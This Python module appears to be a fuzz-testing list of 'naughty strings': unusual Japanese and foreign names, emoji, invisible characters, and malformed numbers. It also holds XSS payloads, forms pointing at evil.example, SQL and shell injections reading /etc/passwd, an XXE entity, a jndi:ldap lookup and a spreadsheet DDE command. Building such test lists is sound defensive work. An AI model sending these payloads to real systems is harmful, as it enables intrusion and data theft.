"""Words that break software which trusts its readers: some six hundred, made by kinds.

Written for this programme: names with rare kanji and addresses from abroad beside what programs
mistake for markup, commands, numbers or nothing at all.
"""

from functools import cache

# what must never come back unescaped; it stands in each word of markup
MARK = "<img src=x onerror=alert(1)>"

NAMES = (
    "𠮷野家", "髙橋 惠", "山﨑 德子", "渡邉・渡邊", "葛󠄀城市", "神󠄀田", "濵田", "齋藤 彅", "𩸽の一夜干し", "𠀋一郎",
    "ヴァヷヸヹヺ", "ﾊﾝｶｸｶﾅ ﾊﾟﾋﾟﾌﾟ", "が゙ぎ゚", "か\u3099き\u3099", "㈱笹原味噌店", "㍿№㏍℡", "①②③㊤㊥㊦", "〒100-0001 東京都千代田区1丁目2番3号",
    "Łódź, ul. Święty Marcin 5", "Straße des 17. Juni 135, 10623 Berlin", "Œuvre, 7 rue de l’Abbé-Groult",
    "Bãi Cháy, Hạ Long", "ถนนสุขุมวิท กรุงเทพ", "서울특별시 중구 세종대로 110", "臺北市信義區市府路1號", "香港灣仔軒尼詩道",
    "Москва, ул. Тверская, 7", "Αθήνα, Πλατεία Συντάγματος", "القاهرة، شارع التحرير ١٢", "תל אביב, רחוב הרצל 3",
    "O'Brien & Sons \"Ltd\"", "Null", "Mr. N. A. None", "Test Test", "D'Arcy-Ñuñez y Öztürk, Ğ.",
)  # fmt: skip
EMOJI = (
    "😀", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇯🇵🇹🇼", "🧑🏿‍🚒", "❤️", "☺︎", "🫠", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "1️⃣2️⃣", "🍣🍶🍡", "©®™", "🀄🃏",
)  # fmt: skip
DIRECTIONS = (
    "مرحبا بالعالم", "שלום עולם", "\u202eabc.exe\u202c", "\u2067inside\u2069", "\u200fمن\u200e", "\u202a\u202b\u202c\u202d\u202e",
    "سعر 1,234.50 ريال", "abc אבג 123 def", "ﷺ ﷽", "\u061cعربي",
)  # fmt: skip
HIDDEN = tuple(
    f"北{sign}前"
    for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u3164\uffa0\ufe0f\u2061\u2062\u2063\u2064\U000e0001\U000e0020"
)
SPACES = tuple(
    f"前{sign}後"
    for sign in "\u0009\u000b\u000c\u0085\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
)
CONTROLS = tuple(f"味{chr(code)}噌" for code in (*range(1, 32), *range(127, 160)))
NOTHING = (
    "\x00",
    "味\x00噌",
    "\x00\x00",
    " ",
    "\u3000",
    "\t",
    "\u200b",
    "-",
    ".",
    "…",
    "0",
    "00",
    "“”",
)
LIKE_NOTHING = (
    "undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "True", "False", "None", "hasOwnProperty",
    "then", "constructor", "__proto__", "\\", "\\\\", "NaN", "Infinity", "-Infinity", "1E1000", "INF", "1/0", "0/0",
)  # fmt: skip
NUMBERS = (
    "1.00", "$1.00", "1/2", "1E2", "1E02", "-1", "-1.00", "-$1.00", "0..0", "0.0.0", "0,00", "0,,0", "--1", "+1", "+-+1",
    "1,000,000.00", "1 000 000,00", "08", "0xffffffff", "0xabad1dea", "123456789012345678901234567890", "9" * 400,
    "-2147483648", "9223372036854775808", "1.7976931348623157e309", "１２３", "一二三", "壱万円", "½", "Ⅷ", "٠١٢٣", "१२३",
    "2026-02-30", "0000-00-00", "9999-99-99", "令和99年13月40日", "24:61", "4901234567890123", "1e-400", "0b101", "0o17",
)  # fmt: skip
SIGNS = (
    ",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "␀␁␂␃␄␅␆␇", "\u0e01\u0e33", "⁰⁴⁵₀₁₂", "ด้้้้้็็็็็้้้้้็็็็็", "田中さんにあげて下さい", "¡™£¢∞§¶•ªº–≠",
    "œ∑´®†¥¨ˆøπ“‘", "Ω≈ç√∫˜µ≤≥÷", "áéíóúñ", "Ⱥ Ⱦ ȿ ɀ", "İıŞşĞğ", "ß ẞ ﬁ ﬄ ŉ", "ǅ ǆ", "表示ソ構能貼", "～〜－―‐‑", "\\ ¥ ￥ ₩",
)  # fmt: skip
ZALGO = tuple(
    "".join(
        sign + "".join(chr(0x300 + (k * 7 + nth) % 0x70) for k in range(depth))
        for nth, sign in enumerate(text)
    )
    for text in ("kitamae", "北前", "miso")
    for depth in (1, 5, 20)
)
MARKUP = tuple(
    each.replace("%", MARK)
    for each in (
        "%", '">%', "'>%", "</textarea>%", "</title>%", "</script>%", "<!--%-->", "]]>%", "<svg onload=alert(1)>%",
        "<a href=javascript:alert(1)>x</a>%", "<iframe srcdoc='%'>", "<style>*{display:none}</style>%", "&lt;%&gt;", "%&amp;&#x27;",
        "<b>%</b>", "<table><td>%", "<%%>", "`%`", "<form action=//evil.example>%", "<input autofocus onfocus=alert(1)>%",
        "<base href=//evil.example/>%", "<meta http-equiv=refresh content=0>%", "<math><mtext>%", "<details open ontoggle=alert(1)>%",
        "javascript:alert(1)//%", "data:text/html,%", '<?xml version="1.0"?>%', "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>%",
        "\u003cscript\u003e%", "＜script＞%", "<\u200bscript>%", "<ſcript>%",
    )
)  # fmt: skip
QUERIES = (
    "1;DROP TABLE users", "1'; DROP TABLE people_user-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --",
    "%", "_", "%%", "\\_", "%' ESCAPE '", "admin'--", '" OR ""="', "') UNION SELECT NULL--", "||pg_sleep(0)--", "$$;$$", "a' COLLATE nocase--",
    "NEAR(", "AND OR NOT", '"unfinished', "*", "味*", "name:miso", "^start", "{a b}:c", "-miso", "(((", ")))", "a AND", "NOT",
)  # fmt: skip
COMMANDS = (
    "--version", "--help", "$USER", "/dev/null; touch /tmp/x; echo", "`touch /tmp/x`", "$(touch /tmp/x)", '@{[system "touch"]}',
    'eval("1")', 'System("ls -al /")', "| cat /etc/passwd", "; ls", "&& whoami", "%0A", "%00", "%2e%2e%2f", "../../../etc/passwd", "..\\..\\boot.ini",
    "file:///etc/passwd", "C:\\CON\\CON", "CON", "PRN", "AUX", "LPT1", "COM1", "/etc/passwd\x00.jpg", "\\\\server\\share", "~root", ".git/config",
    "() { :; }; echo", "${jndi:ldap://example.invalid/a}", "http://a/%%30%30", "http://[::1]:0/", "//example.invalid", "mailto:a@b.example?bcc=c@d.example",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% load x %}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{# comment #}", "{0}", "{}", "{name.__class__}", "%s", "%d", "%n%n", "%(name)s", "%(",
    "%x%x%x%x", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ company }}", "{{ person", "}}", "[[ x ]]", "\\x41", "\\u0041", "\\n", "&#65;", "=?utf-8?B?QQ==?=",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid")', "\t=1+1", "＝1+1", ";=1", '"=1"', "a,b;c\td", '"', '"""',
)  # fmt: skip
HEADERS = (
    "a\r\nBcc: b@example.com", "a\nSubject: x", "a\r\n\r\nbody", "a\u2028b", "\r", "\n", "line 1\nline 2\r\nline 3", ".\r\n", "From me", "--boundary",
)  # fmt: skip
LONG = (
    "味" * 3_000,
    "a" * 10_000,
    "a b " * 4_000,
    "𠮷" * 2_000,
    "\n" * 1_500 + "x",
    "W" * 300,
    "é" * 5_000 + "。",
)
OUTSIDE = tuple(
    chr(code)
    for code in (
        0xFFFE,
        0xFFFF,
        0xFDD0,
        0x1FFFE,
        0x10FFFF,
        0xE000,
        0xF8FF,
        0xFFFD,
        0xF0000,
        0xFFFC,
        0x2FF0,
        0x1F1E6,
    )
)
LETTERS = tuple(f"x{chr(code)}x" for code in range(0xA0, 0x180, 2))


@cache
def naughty() -> tuple[str, ...]:
    """All of them, each once, in a steady order."""
    kinds = (
        NAMES, EMOJI, DIRECTIONS, HIDDEN, SPACES, CONTROLS, NOTHING, LIKE_NOTHING, NUMBERS, SIGNS, ZALGO, MARKUP, QUERIES,
        COMMANDS, TEMPLATES, FORMULAS, HEADERS, LONG, OUTSIDE, LETTERS,
    )  # fmt: skip
    return tuple(dict.fromkeys(each for kind in kinds for each in kind))
